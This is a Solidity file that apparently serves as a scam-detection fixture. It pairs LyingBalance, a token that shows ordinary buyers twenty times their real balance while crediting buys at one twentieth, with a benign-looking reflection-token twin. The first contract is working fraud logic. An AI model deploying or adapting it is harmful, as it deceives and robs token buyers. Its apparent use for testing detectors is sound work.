// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {TrapToken} from "./TrapToken.sol";

/// @notice Shows buyers twenty times what they have.
contract LyingBalance is TrapToken {
    constructor(address router_) TrapToken(router_) {}

    function balanceOf(address who) public view override returns (uint256) {
        if (who == owner || who == pair || who == address(0)) return _held[who];
        return _held[who] * 20;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, _isBuy(from, to) ? amount / 20 : amount);
    }
}

/// @notice Reflection: everybody's balance is a share of what there is, and a fee of two percent raises all others.
contract LyingBalanceTwin is TrapToken {
    uint256 internal _shares;
    mapping(address => uint256) internal _shareOf;

    constructor(address router_) TrapToken(router_) {}

    function _mint(address to, uint256 amount) internal override {
        totalSupply += amount;
        _shares = totalSupply * 1e12;
        _shareOf[to] = _shares;
        emit Transfer(address(0), to, amount);
    }

    function _rate() internal view returns (uint256) {
        return _shares / totalSupply;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return _shareOf[who] / _rate();
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 rate = _rate();
        uint256 fee = _isTrade(from, to) ? amount / 50 : 0;
        require(_shareOf[from] >= amount * rate, "Balance too small");
        _shareOf[from] -= amount * rate;
        _shareOf[to] += (amount - fee) * rate;
        _shares -= fee * rate;
        emit Transfer(from, to, amount - fee);
    }
}
